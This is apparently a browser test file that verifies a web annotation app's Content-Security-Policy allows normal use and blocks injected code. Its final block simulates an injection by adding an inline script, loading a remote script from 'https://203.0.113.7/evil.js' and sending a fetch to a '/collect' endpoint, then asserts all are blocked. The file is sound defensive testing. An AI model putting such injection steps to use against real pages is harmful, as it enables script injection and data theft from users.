// The Content-Security-Policy: the app runs under it without a single violation, and
// it stops what an injection would try (an inline script, a remote script or request).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { suite, mark, articleText, exportAs, WINDOW } from './harness.mjs';

const it = suite();

test('the app runs under its CSP with no violation, and the CSP blocks injected code', async () => {
  const context = await it.browser.newContext({ acceptDownloads: true, viewport: WINDOW });
  await context.addInitScript(() => {
    window.violations = [];
    document.addEventListener('securitypolicyviolation', (e) => window.violations.push(`${e.violatedDirective} ${e.blockedURI}`));
  });
  const page = await context.newPage();
  const requests = [];
  const finished = [];
  page.on('request', (r) => requests.push(r.url()));
  page.on('requestfinished', (r) => finished.push(r.url()));
  await page.goto(it.server.url);
  await page.getByRole('button', { name: 'New document' }).waitFor();
  const csp = await page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]').content);
  assert.match(csp, /script-src 'self' 'wasm-unsafe-eval' 'sha256-[A-Za-z0-9+/=]+';/);
  const scriptSrc = csp.split(';').map((d) => d.trim().split(/\s+/)).find((d) => d[0] === 'script-src');
  assert.ok(!scriptSrc.includes("'unsafe-inline'") && !scriptSrc.includes("'unsafe-eval'"), scriptSrc.join(' '));

  // Normal use: annotate, export, highlights, styles: no violation.
  const text = await articleText(page);
  await mark(page, text, 'Maryam Rahimi', '1');
  const download = await exportAs(page);
  assert.ok(download.suggestedFilename().endsWith('.marginalia.json'));
  assert.deepEqual(await page.evaluate(() => window.violations), []);

  assert.ok(requests.every((r) => r.startsWith(it.server.url)), `only the app's own files: ${requests.join(' ')}`);

  // What an injection would try is blocked.
  const ran = await page.evaluate(async () => {
    const inline = document.createElement('script');
    inline.textContent = 'window.injected = true';
    document.body.append(inline);
    const remote = document.createElement('script');
    remote.src = 'https://203.0.113.7/evil.js';
    document.body.append(remote);
    let fetched = 'blocked';
    try { await fetch('https://203.0.113.7/collect'); fetched = 'sent'; } catch { /* blocked */ }
    await new Promise((r) => setTimeout(r, 100));
    return { inline: window.injected === true, fetched, violations: window.violations };
  });
  assert.equal(ran.inline, false, 'an injected inline script does not run');
  assert.equal(ran.fetched, 'blocked');
  assert.ok(ran.violations.some((v) => v.startsWith('script-src')), ran.violations.join(', '));
  assert.ok(ran.violations.some((v) => v.startsWith('connect-src')), ran.violations.join(', '));
  assert.ok(finished.every((r) => r.startsWith(it.server.url)), `nothing else was fetched: ${finished.join(' ')}`);
  await context.close();
});
